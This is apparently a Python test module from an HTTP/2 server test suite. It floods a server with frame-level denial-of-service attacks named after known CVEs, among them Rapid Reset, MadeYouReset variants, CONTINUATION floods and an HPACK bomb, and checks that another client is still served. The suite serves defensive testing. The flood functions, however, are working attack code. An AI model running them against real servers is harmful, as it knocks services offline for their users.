"""HTTP/2 floods: the server stays responsive, and few requests reach the upstream (the names of known attacks)."""

import struct
import time

from wire.h2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, H2, HEADERS, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, block, frame,
                     get, integer, literal)
from wire.judge import Case

from .http2 import path


def flood(make, budget=5.0, most=100, serves=True):
    """A flood on one connection while another client asks: it is answered soon, few requests reach the upstream."""
    def run(lane, case):
        attacker = H2(lane)
        attacker.grant = False
        start = time.monotonic()
        sent = make(attacker, path(case), lambda data: attacker.send(data, 2.0) and time.monotonic() - start < budget)
        ended = attacker.closed or attacker.goaway is not None
        victim = H2(lane)
        begun = time.monotonic()
        status = victim.ask(1, b"/c%d/victim" % case.number, 4.0)
        took = time.monotonic() - begun
        attacker.pump(0.2)
        count = sum(b"/victim" not in request.target for request in lane.upstream.seen())
        attacker.close()
        victim.close()
        said = f"sent {sent}, ended {ended} (goaway {attacker.goaway}), victim {status} in {took:.2f} s, {count} requests to the upstream"
        if status != 200 or took > 1.0:
            return f"a victim waited: {status} after {took:.2f} s", said
        if count > most:
            return f"{count} requests reached the upstream", said
        if serves == "ends" and not (ended or attacker.closed or attacker.goaway is not None):
            return "the flood was never ended", said
        return None, said
    return run


def rapid_reset(attacker, target, go):
    number = 1
    for _ in range(100):
        data = b""
        for _ in range(50):
            data += attacker.request(number, get(attacker.host, target)) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
            number += 2
        if not go(data):
            break
    return number // 2


def made_you_reset(primitive):
    """MadeYouReset (CVE-2025-8671): the server is made to reset streams whose requests are under way."""
    def make(attacker, target, go):
        number = 1
        for _ in range(100):
            data = b""
            for _ in range(50):
                ends = primitive != "content-length"
                extra = () if ends else ((b"content-length", b"5"),)
                data += attacker.request(number, get(attacker.host, target, b"GET" if ends else b"POST", extra), ends and primitive not in ("trailers",))
                data += {"window 0": frame(WINDOW_UPDATE, 0, number, b"\0\0\0\0"), "window overflow": frame(WINDOW_UPDATE, 0, number, b"\x7f\xff\xff\xff"),
                         "DATA behind the end": frame(DATA, 0, number, b"x"), "HEADERS behind the end": attacker.request(number, get(attacker.host, target)),
                         "PRIORITY of 3 bytes": frame(PRIORITY, 0, number, b"\0\0\0"), "PRIORITY on itself": frame(PRIORITY, 0, number, struct.pack(">IB", number, 1)),
                         "content-length": frame(DATA, 1, number, b"x" * 9),
                         "trailers": frame(HEADERS, END_HEADERS | END_STREAM, number, block([(b":path", b"/")]))}[primitive]
                number += 2
            if not go(data):
                break
        return number // 2
    return make


def many(piece, count=200, each=500):
    def make(attacker, target, go):
        first = attacker.request(1, get(attacker.host, target, b"POST"), False)
        go(first)
        sent = 0
        for _ in range(count):
            if not go(piece * each):
                break
            sent += each
        return sent
    return make


def continuations(empty=False):
    def make(attacker, target, go):
        go(frame(HEADERS, END_STREAM, 1, block(get(attacker.host, target))))
        sent = 0
        for _ in range(400):
            piece = frame(CONTINUATION, 0, 1, b"" if empty else literal(b"x-a", b"b" * 1000))
            if not go(piece * 50):
                break
            sent += 50
        return sent
    return make


def bomb(attacker, target, go):
    """HTTP/2 bomb: one large entry in the table, referred to with one byte each."""
    entry = b"\x40" + integer(3, 7) + b"x-a" + integer(3900, 7) + b"b" * 3900
    number, sent = 1, 0
    for _ in range(20):
        fields = block(get(attacker.host, target)) + (entry if number == 1 else b"") + b"\xbe" * 12000
        pieces = [fields[at:at + 16000] for at in range(0, len(fields), 16000)]
        data = frame(HEADERS, END_STREAM, number, pieces[0])
        for piece in pieces[1:]:
            data += frame(CONTINUATION, 0, number, piece)
        data += frame(CONTINUATION, END_HEADERS, number, b"")
        if not go(data):
            break
        number, sent = number + 2, sent + 1
    return sent


def crumbs(attacker, target, go):
    sent = 0
    for number in range(1, 41, 2):
        fields = block(get(attacker.host, target)) + b"\x60\x03a=b" + b"\xbe" * 12000
        if not go(frame(HEADERS, END_STREAM | END_HEADERS, number, fields)):
            break
        sent += 1
    return sent


def many_streams(attacker, target, go):
    data = b"".join(attacker.request(number, get(attacker.host, target + b"/f/silent")) for number in range(1, 2001, 2))
    go(data)
    return 1000


def zero_window(attacker, target, go):
    go(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    data = b"".join(attacker.request(number, get(attacker.host, target)) for number in range(1, 161, 2))
    go(data)
    attacker.pump(0.5)
    return 80


def all_floods():
    yield Case("h2 floods", "rapid reset", "CVE-2023-44487", b"", None, run=flood(rapid_reset, serves="ends"))
    for primitive in ("window 0", "window overflow", "DATA behind the end", "HEADERS behind the end", "PRIORITY of 3 bytes", "PRIORITY on itself", "content-length", "trailers"):
        yield Case("h2 floods", f"MadeYouReset: {primitive}", "CVE-2025-8671", b"", None, run=flood(made_you_reset(primitive)))
    yield Case("h2 floods", "CONTINUATION", "CVE-2024-27316 and kin", b"", None, run=flood(continuations(), serves="ends"))
    yield Case("h2 floods", "empty CONTINUATION", "CVE-2024-27316 and kin", b"", None, run=flood(continuations(empty=True), serves="ends"))
    yield Case("h2 floods", "PING", "CVE-2019-9512", b"", None, run=flood(many(frame(PING, 0, 0, b"x" * 8))))
    yield Case("h2 floods", "SETTINGS", "CVE-2019-9515", b"", None, run=flood(many(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)))))
    yield Case("h2 floods", "empty DATA", "CVE-2019-9518; RUSTSEC-2026-0258", b"", None, run=flood(many(frame(DATA, 0, 1, b""))))
    yield Case("h2 floods", "padded empty DATA", "CVE-2019-9518", b"", None, run=flood(many(frame(DATA, PADDED, 1, b"\0"))))
    yield Case("h2 floods", "PRIORITY", "CVE-2019-9513", b"", None, run=flood(many(frame(PRIORITY, 0, 3, b"\0\0\0\0\x10"))))
    yield Case("h2 floods", "WINDOW_UPDATE", "CVE-2019-9511", b"", None, run=flood(many(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))))
    yield Case("h2 floods", "unknown frames", "CVE-2019-9518", b"", None, run=flood(many(frame(0x42, 0, 0, b""))))
    yield Case("h2 floods", "bomb: 12,000 references of a byte", "HPACK bomb; CVE-2016-6581", b"", None, run=flood(bomb))
    yield Case("h2 floods", "cookie crumbs: 12,000 of a byte", "HTTP/2 bomb by crumbs", b"", None, run=flood(crumbs))
    yield Case("h2 floods", "1,000 streams at once", "RFC 9113 §5.1.2", b"", None, run=flood(many_streams, most=260))
    yield Case("h2 floods", "zero window", "CVE-2019-9517", b"", None, run=flood(zero_window))


def cases():
    for case in all_floods():
        # What looks at times has the machine for itself.
        case.alone = True
        yield case
